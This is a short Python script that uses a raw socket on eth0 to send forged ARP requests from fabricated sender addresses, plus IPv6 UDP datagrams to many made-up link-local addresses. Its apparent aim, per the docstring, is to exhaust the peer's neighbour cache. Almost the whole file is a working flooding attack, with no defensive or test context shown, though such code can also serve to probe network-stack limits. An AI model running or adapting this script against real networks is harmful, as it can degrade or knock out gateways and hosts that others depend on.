"""Makes whoever is at the other end of eth0 remember neighbours that are none, if it can be made to.

  neigh.py N IPV6   N ARP requests from made-up senders, and datagrams from IPV6 to N made-up link-local addresses
"""
import socket, struct, sys

n, src = int(sys.argv[1]), sys.argv[2]
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
mac = s.getsockname()[4]
gateway = bytes.fromhex("025368fffffe")
for i in range(n):
    s.send(gateway + mac + struct.pack("!HHHBBH", 0x0806, 1, 0x0800, 6, 4, 1) + mac + struct.pack("!I", 0x0B000001 + i) + bytes(6) + socket.inet_aton("169.254.1.1"))
    dst = socket.inet_pton(socket.AF_INET6, "fe80::b:%x" % (i + 1))
    s.send(gateway + mac + struct.pack("!HIHBB", 0x86DD, 6 << 28, 8, 17, 64) + socket.inet_pton(socket.AF_INET6, src) + dst + struct.pack("!HHHH", 5555, 7777, 8, 0))
